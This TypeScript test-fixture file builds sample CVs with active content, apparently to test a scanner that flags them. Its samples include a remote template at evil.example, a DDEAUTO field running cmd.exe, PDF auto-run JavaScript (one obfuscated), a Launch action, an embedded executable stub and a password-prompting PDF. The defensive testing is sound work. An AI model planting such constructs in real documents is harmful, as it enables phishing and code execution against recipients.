import type { ActiveContent } from '../cv-content.ts'
import { doc, wordStream } from './ole-files.ts'
import { pdf, pdfObjects } from './pdf-files.ts'
import { contentTypes, docx, mainDocument, type ZipMember } from './zip-files.ts'

const macros = doc({ embedded: { _VBA_PROJECT: Buffer.alloc(5000) } })
const relationship = (type: string, target: string, mode = 'External'): ZipMember => ({
  name: 'word/_rels/document.xml.rels',
  data: `<Relationships><Relationship Id="r" TargetMode="${mode}" Target="${target}"
    Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`,
})
const body = (xml: string): ZipMember => ({
  name: 'word/document.xml',
  data: `${mainDocument().data}`.replace('<w:p>', `<w:p>${xml}`),
})
/** A PDF whose catalog has these entries, and these objects behind its own. */
const catalog = (entries: string, ...objects: string[]) =>
  pdf({ objects: [`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, ...pdfObjects.slice(1), ...objects] })

/** CVs that hold more than words and pictures, by what staff are told about them. */
const filesBy: Record<ActiveContent | 'nothing', Record<string, () => Buffer>> = {
  macros: {
    'a Word document with macros by its type': () =>
      docx([contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml')]),
    'a Word document with macros by a relationship': () =>
      docx([relationship('vbaProject', 'a.bin', 'Internal')]),
    'a Word document with macros under another name': () =>
      docx([{ name: 'word/media/1.png', data: macros }]),
    'a Word 97 document with macros': () => macros,
  },
  template: {
    'a Word document whose template is elsewhere': () =>
      docx([relationship('attachedTemplate', 'https://evil.example/a.dotm')]),
  },
  links: {
    'a Word document with a picture from elsewhere': () =>
      docx([relationship('image', 'https://evil.example/a.png')]),
    'a Word 97 document with a picture from elsewhere': () =>
      doc({ streams: { WordDocument: wordStream({ text: '\x13INCLUDEPICTURE "http://a.example"\x15' }) } }),
  },
  nothing: {
    'a Word document with a link to click on': () => docx([relationship('hyperlink', 'https://ann.example')]),
  },
  dde: {
    'a Word document with a field that starts a program': () =>
      docx([
        body(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>' +
            '<w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:r>',
        ),
      ]),
    'a Word 97 document with a field that starts a program': () =>
      doc({ streams: { WordDocument: wordStream({ text: 'A\x13 DDEAUTO cmd\x14x\x15' }) } }),
  },
  objects: {
    'a Word document with an object of another program': () =>
      docx([relationship('oleObject', 'embeddings/1.bin', 'Internal')]),
    'a Word 97 document with an object of another program': () =>
      doc({ embedded: { '\x01Ole10Native': Buffer.alloc(5000) } }),
  },
  javascript: {
    'a PDF with JavaScript': () => catalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    'a PDF with JavaScript under a written-out name': () =>
      catalog('/OpenAction << /S /Java#53cript /JS (app.alert\\(1\\)) >>'),
  },
  launch: { 'a PDF that starts a program': () => catalog('/OpenAction << /S /Launch /F (cmd.exe) >>') },
  files: {
    'a PDF with a file inside': () =>
      catalog(
        '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
        '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ),
  },
}
export const activeFiles = Object.entries(filesBy).flatMap(([active, named]) =>
  Object.entries(named).map(([name, bytes]) => ({
    name,
    active: active === 'nothing' ? [] : [active],
    bytes,
  })),
)

/** A PDF that would ask for a password, start a program and open a file, if a viewer let it. */
export const hostilePdf = () =>
  catalog(
    '/OpenAction << /S /JavaScript /JS (app.response\\("Password?"\\); app.launchURL\\("' +
      'https://evil.example"\\)) ' +
      '/Next << /S /Launch /F (cmd.exe) >> >> /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
    '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  )
